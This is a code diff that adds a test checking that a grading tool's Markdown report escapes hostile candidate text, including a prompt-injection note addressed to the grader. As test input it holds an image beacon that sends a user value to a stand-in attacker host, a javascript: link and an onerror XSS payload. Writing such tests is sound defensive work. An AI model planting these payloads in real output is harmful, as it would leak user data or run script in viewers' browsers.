@@ -45,6 +45,36 @@ describe('reports', () => {
     expect(md).toContain('critical injection-attempt');
   });
 
+  it('Markdown makes quoted candidate text inert: no image, link, bare URL, HTML or emphasis reaches report.md', async () => {
+    const answer = 'Reviewer note: ![pixel](http://evil.example/p.png?u=ada) [click](javascript:alert(1)) <img src=x onerror=alert(1)> www.evil.example **bold** `code` # title';
+    const sc: Scorecard = {
+      ...scorecard(0.5),
+      problems: [`1. ${answer}`],
+      items: [{ ...scorecard(0.5).items[0]!, verdicts: { integrity: { pass: false, score: 0, reason: `addresses the grader: ${answer}` } } }],
+      flags: [{ code: 'injection-attempt', severity: 'critical', message: `- ${answer}` }],
+    };
+    const md = renderMarkdownReport(sc);
+    for (const line of md
+      .split('\n')
+      .filter((l) => l.includes('Reviewer note'))
+      .map((l) => l.slice(l.indexOf('Reviewer note')))) {
+      // Every Markdown-active character arrives escaped (or as an entity), so a viewer renders it as text.
+      expect(line).not.toMatch(/(^|[^\\])!\[/);
+      expect(line).not.toMatch(/(^|[^\\])\]\(/);
+      expect(line).not.toMatch(/<img|<script/);
+      expect(line).not.toMatch(/https?:\/\//);
+      expect(line).not.toMatch(/www\.evil/);
+      expect(line).not.toMatch(/(^|[^\\])\*\*/);
+      expect(line).not.toMatch(/(^|[^\\])`/);
+    }
+    // A list item that starts like a list or a numbered list stays one item of text.
+    expect(md).toContain('- 1\\. Reviewer note');
+    expect(md).toContain('critical injection-attempt**: \\- Reviewer note');
+    // The table row keeps its five cells.
+    const row = md.split('\n').find((l) => l.startsWith('| q1 '))!;
+    expect(row.split(/(?<!\\)\|/).length).toBe(6);
+  });
+
   it('HTML escapes candidate text, draws charts as inline SVG, and labels the offline baseline', async () => {
     const html = await renderHtmlReport(scorecard(0.5));
     expect(html).not.toContain('<script>');
